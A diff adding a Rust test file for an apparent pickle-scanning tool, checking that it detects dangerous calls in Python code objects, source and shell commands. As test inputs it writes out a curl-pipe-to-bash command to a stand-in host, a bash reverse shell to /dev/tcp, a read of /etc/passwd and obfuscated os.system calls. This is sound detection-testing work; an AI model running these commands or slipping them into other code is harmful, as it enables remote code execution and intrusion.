@@ -1,0 +1,224 @@
+//! What code inside pickles says: code objects of every Python at hand, source and commands.
+
+#![allow(
+    clippy::unwrap_used,
+    clippy::indexing_slicing,
+    reason = "a panic is how a test fails"
+)]
+
+mod support;
+
+use pickscan::{
+    facts::{PayloadKind, PayloadSummary},
+    limits::Limits,
+    machine::Machine,
+    payload::summarize,
+    rules::Ruleset,
+    source::MemorySource,
+};
+use support::unhex;
+
+fn assert_has(list: &[String], wanted: &[&str], context: &str) {
+    for entry in wanted {
+        assert!(
+            list.iter().any(|have| have == entry),
+            "{context}: {entry} is not in {list:?}"
+        );
+    }
+}
+
+fn fixtures() -> Vec<(String, Vec<u8>)> {
+    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/payload");
+    let files = std::fs::read_dir(folder)
+        .unwrap()
+        .map(|entry| entry.unwrap().path());
+    let files = files.filter(|path| path.extension().is_some_and(|extension| extension == "hex"));
+    files
+        .map(|path| {
+            let digits = std::fs::read_to_string(&path).unwrap().replace('\n', "");
+            (path.display().to_string(), unhex(&digits))
+        })
+        .collect()
+}
+
+#[test]
+fn code_objects_of_every_version_are_read() {
+    let fixtures = fixtures();
+    assert!(fixtures.len() >= 9);
+    for (name, bytes) in fixtures {
+        let summary = summarize(PayloadKind::CodeObject, &bytes);
+        let names: &[&str] = &[
+            "os.system",
+            "socket.create_connection",
+            "urllib.request.urlopen",
+            "subprocess.Popen",
+            "builtins.eval",
+            "builtins.open",
+        ];
+        assert_has(&summary.names, names, &name);
+        assert_has(
+            &summary.imports,
+            &["os", "urllib.request", "subprocess", "socket"],
+            &name,
+        );
+        assert_has(&summary.contacts, &["http://x.example/payload"], &name);
+        assert_has(&summary.paths, &["/etc/passwd"], &name);
+        assert_has(&summary.constants, &["id", "text constant"], &name);
+        assert_has(&summary.notes, &["defines inner from snippet.py"], &name);
+        // With the header of a `.pyc`, of each length.
+        for header in [8, 12, 16] {
+            let mut pyc = vec![0x6f, 0x0d, 0x0d, 0x0a];
+            pyc.resize(header, 0);
+            pyc.extend_from_slice(&bytes);
+            assert_eq!(
+                summarize(PayloadKind::CodeObject, &pyc),
+                summary,
+                "{name} {header}"
+            );
+        }
+    }
+}
+
+#[test]
+fn broken_code_objects_end_in_a_note() {
+    for (name, bytes) in fixtures() {
+        for length in (0..bytes.len()).step_by(7) {
+            let summary = summarize(PayloadKind::CodeObject, &bytes[..length]);
+            assert_has(&summary.notes, &["the code object cannot be read"], &name);
+        }
+        for place in (0..bytes.len()).step_by(3) {
+            let mut broken = bytes.clone();
+            broken[place] ^= 0x55;
+            summarize(PayloadKind::CodeObject, &broken);
+        }
+    }
+}
+
+fn source(text: &str) -> PayloadSummary {
+    summarize(PayloadKind::Source, text.as_bytes())
+}
+
+#[test]
+fn source_is_followed_to_the_names_it_uses() {
+    let cases = [
+        ("import os; os.system('id')", "os", "os.system"),
+        (
+            "import os.path as p\np.join('a')",
+            "os.path",
+            "os.path.join",
+        ),
+        (
+            "from os import (system as s,\n popen)\ns('id')",
+            "os",
+            "os.system",
+        ),
+        ("__import__('o' + 's').system('id')", "os", "os.system"),
+        ("x = __import__('os')\nx.system('id')", "os", "os.system"),
+        ("import os\nrun = os.system\nrun('id')", "os", "os.system"),
+        (
+            "getattr(__import__('os'), 'sys' 'tem')('id')",
+            "os",
+            "os.system",
+        ),
+        (
+            "import importlib\nimportlib.import_module('os').popen(1)",
+            "os",
+            "os.popen",
+        ),
+        ("import os\nprint(f'{os.popen(1)}')", "os", "os.popen"),
+        ("__import__('\\x6f\\163').system('id')", "os", "os.system"),
+        (
+            "import os\ndef f(x=1):\n  # os.remove\n  return [os.getpid() for y in x]",
+            "os",
+            "os.getpid",
+        ),
+    ];
+    for (text, import, call) in cases {
+        let summary = source(text);
+        assert_has(&summary.imports, &[import], text);
+        assert_has(&summary.calls, &[call], text);
+    }
+    assert_has(
+        &source("eval(compile('1', '', 'eval'))").calls,
+        &["builtins.eval"],
+        "eval",
+    );
+    let quiet = source("'''import os'''\n# os.system('id')\nx = 1 + foo['os'].bar");
+    assert!(
+        quiet.imports.is_empty() && quiet.calls.is_empty(),
+        "{quiet:?}"
+    );
+}
+
+#[test]
+fn commands_are_taken_apart() {
+    let shell = |text: &str| summarize(PayloadKind::Shell, text.as_bytes());
+    let fetched = shell("X=1 sudo curl -s http://x.example/a | bash -s");
+    assert_eq!(fetched.calls, ["curl", "bash"]);
+    assert_eq!(fetched.contacts, ["http://x.example/a"]);
+    assert_eq!(fetched.notes, ["fetches a program and runs it"]);
+    let reverse = shell("bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'");
+    assert_has(
+        &reverse.notes,
+        &["opens a shell or sends data to an address"],
+        "reverse",
+    );
+    let python = shell("python3 -c \"import os; os.system('id')\"");
+    assert_eq!(python.calls, ["python3", "os.system"]);
+    assert_eq!(
+        shell("echo a || true; cat /etc/passwd").calls,
+        ["echo", "true", "cat"]
+    );
+    assert_eq!(shell("echo $(id) `whoami`").calls, ["echo", "id", "whoami"]);
+}
+
+#[test]
+fn hostile_payloads_are_bounded() {
+    for piece in [
+        "(", "[", "'", "\"\"\"", "a.", "a(", "import ", "x=", "f'{", "\\", "`", "$(", "|", "from ",
+    ] {
+        let text = piece.repeat(100_000);
+        for kind in [
+            PayloadKind::Source,
+            PayloadKind::Shell,
+            PayloadKind::CodeObject,
+        ] {
+            summarize(kind, text.as_bytes());
+        }
+    }
+    let nested = [b"\xe3".to_vec(), vec![0; 20], b")\x01".repeat(100_000)].concat();
+    summarize(PayloadKind::CodeObject, &nested);
+}
+
+#[test]
+fn code_written_by_dill_and_cloudpickle_is_described() {
+    let limits = Limits::default();
+    for name in ["cloudpickle-lambda", "dill-lambda"] {
+        let path = format!(
+            "{}/corpus/benign/others/{name}.pkl",
+            env!("CARGO_MANIFEST_DIR")
+        );
+        let source = MemorySource::new(std::fs::read(path).unwrap());
+        let facts = Machine::new(&source, Ruleset::builtin(), &limits).run(0);
+        let code = facts
+            .payloads
+            .iter()
+            .filter(|payload| payload.kind == PayloadKind::CodeObject);
+        assert!(code.count() > 0, "{name}: {facts:#?}");
+        let judgement = Ruleset::builtin().evaluate(&facts);
+        let ids: Vec<&str> = judgement
+            .matches
+            .iter()
+            .map(|found| found.rule.id.as_ref())
+            .collect();
+        println!(
+            "{name}: {ids:?} {:?}",
+            judgement
+                .matches
+                .iter()
+                .map(|m| &m.message)
+                .collect::<Vec<_>>()
+        );
+        assert!(!ids.contains(&"harmful-code"), "{name}: {ids:?}");
+    }
+}
